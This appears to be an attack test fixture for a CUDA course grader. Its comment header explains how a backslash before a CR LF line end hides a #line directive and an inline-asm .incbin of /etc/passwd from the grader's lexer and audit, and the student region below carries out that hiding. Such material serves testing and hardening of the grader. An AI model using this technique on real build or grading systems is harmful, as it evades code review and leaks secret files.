// Attack (Lab 01, static layers, against the region rules' lexer, check_region_body, and the audit's reading
// of the preprocessed source, region_code_in_preprocessed): a line splice the lexer does not see. A `//`
// comment whose last characters are a backslash and a CR LF line end is, for GCC (which preprocesses both
// of nvcc's passes), spliced with the next line: GCC reads "\<CR><LF>" as a backslash-newline. The lexer's
// line-comment loop (regions.cpp:104-107) refuses a backslash only when an LF follows it at once, and
// line_ends_agree (regions.cpp:64-80) refuses a CR only when no LF follows it, and a backslash only when
// spaces or tabs come between it and the line end; the top-of-loop check that does know "\\\r\n"
// (regions.cpp:91) is never reached inside a comment. So the next line, `/*`, opens a block comment for
// the lexer, while for GCC it is part of the line comment; every line up to `// */` is comment to the
// lexer and code to the compiler, preprocessor lines included. What is hidden here:
//   #line 1 "not_the_lab.h"   the .ii scan only reads lines whose line marker names a file ending in
//                             ".cu" (audit.cpp:483): after this line, nothing of the lab is scanned;
//   __asm__ volatile(... .incbin ...)   GNU as copies a file into the object at BUILD time (the grading
//                             user's rights, outside any confinement): here a stand-in for the
//                             instructor's --secret-file, /etc/passwd (any path works:
//                             other students' staged files, the solutions, CMakeCache.txt). At run time
//                             the launcher prints it once.
// Evidence (grade --labs-dir ... --allow-no-gpu --lab 01, this region over the solution's):
//   "Lab 01 (Sum reduction): compiles", "passed: the region rules: ...", "passed: the audit: ... each of the
//   39 functions and objects it uses is allowed"; `strings -a` on lab01_slot2_code's sum_reduction.cu.o and
//   on graders/lab01_slot2_host prints SECRET-STANDIN-7f3a9c2e-attack-static (section .rodata.notes);
//   graded/lab01_slot2/keep/preprocessed-findings.txt is empty.
// The file holds one CR byte, at the end of the line that ends in a backslash (save it as is).
// Caught now (refused_region): the region rules refuse a backslash before a line end, after any spaces,
// tabs or a CR, in code, comments and literals alike, and every control byte but tab, FF, VT, CR LF and LF
// (line_ends_agree in regions.cpp).

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    static bool shown = false;
    const char* leaked = nullptr;
    // This comment ends in a backslash before a CR LF line end \
    /*
#line 1 "not_the_lab.h"
    __asm__ volatile(".pushsection .rodata.notes, \"a\"\n9: .incbin \"/etc/passwd\"\n .byte 0\n .popsection\n lea 9b(%%rip), %0" : "=r"(leaked));
    // */
    if (!shown && leaked) printf("%s\n", leaked);
    shown = true;
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // END STUDENT REGION
